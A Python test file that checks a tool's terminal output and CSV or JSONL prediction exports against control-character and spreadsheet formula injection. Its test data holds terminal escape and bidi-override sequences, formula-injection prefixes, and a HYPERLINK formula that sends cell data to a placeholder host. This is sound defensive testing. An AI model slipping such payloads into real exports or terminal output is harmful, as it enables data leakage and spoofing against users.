"""Names of strangers on the terminal and in tables: no control characters, no formulas."""

import csv
import io
import json
from pathlib import Path

import pytest

from vit.prediction.records import Prediction, write_predictions
from vit.runtime.arguments import replace_control_characters
from vit.runtime.console import build_console, build_table, echo
from vit.runtime.documents import escape_formula, read_rows

ROOT = Path(__file__).parents[2]
# ESC, the 8-bit CSI, DEL, right-to-left override and isolate, line separator
CONTROLS = ["\x1b[31m", "\x9b31m", "\x7f", "\u202e", "\u2067", "\u2028", "\x07", "\r"]
FORMULAS = ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@x", "-", "=\"'\n"]
PLAIN = ["ant", "-1", "+2.5e3", "-inf", "'quoted'", "a=b", "", "é", "'", " =1"]


def test_characters_that_a_terminal_obeys_are_replaced() -> None:
    for control in CONTROLS:
        assert replace_control_characters(f"a{control}b").startswith("a�")
    kept = "newline\n, no-break\u00a0space, e\u0301, می\u200cخواهم, 👩\u200d🔬, 日本"
    assert replace_control_characters(kept) == kept
    assert replace_control_characters("\udcff") == "�"


def test_all_that_is_printed_goes_through_one_place(capsys: pytest.CaptureFixture[str]) -> None:
    name = "".join(CONTROLS)
    console = build_console()
    console.print(name)
    console.print(build_table([[name, 1]], (name, "n"), title=name))
    echo(name)
    echo(name, err=True, color="yellow")
    captured = capsys.readouterr()
    printed = captured.out + captured.err
    assert printed.count("�") >= 5 * len(CONTROLS)
    assert replace_control_characters(printed) == printed


def test_a_cell_is_no_formula_and_is_read_back_as_it_was(tmp_path: Path) -> None:
    for text in FORMULAS:
        assert escape_formula(text) == f"'{text}"
    for text in PLAIN:
        assert escape_formula(text) == text
    path = tmp_path / "table.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        rows = [[escape_formula(text), "x"] for text in FORMULAS + PLAIN]
        csv.writer(file).writerows([["text", "x"], *rows])
    assert [row["text"] for _, row in read_rows(path)] == FORMULAS + PLAIN


def test_predictions_have_no_formulas_and_no_control_characters(tmp_path: Path) -> None:
    classes = ['=HYPERLINK("http://e/?"&A1)', "\x1b[31mred", "ab\u202ecd"]
    top = [(index, name, 1 / 3) for index, name in enumerate(classes)]
    predictions = [
        Prediction("-photo.png", top, prediction_set=classes, p_value=0.5),
        Prediction("x\x1b]0;title\x07.png", [], error="@error\x9b"),
    ]
    file = io.StringIO()
    list(write_predictions(predictions, file=file, kind="csv"))
    text = file.getvalue()
    assert replace_control_characters(text) == text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    # numbers are numbers, and other names come back
    path = tmp_path / "predictions.csv"
    path.write_text(text)
    _, read = next(read_rows(path))
    assert read["path"] == "-photo.png"
    assert (read["predicted"], read["probability"]) == (classes[0], repr(1 / 3))
    assert read["p_value"] == "0.5"

    file = io.StringIO()
    list(write_predictions(predictions, file=file, kind="jsonl"))
    lines = file.getvalue().splitlines()
    assert len(lines) == 2
    assert [replace_control_characters(line) for line in lines] == lines
    first, second = map(json.loads, lines)
    assert [row["name"] for row in first["predictions"]] == classes
    assert second == {"path": "x\x1b]0;title\x07.png", "error": "@error\x9b"}
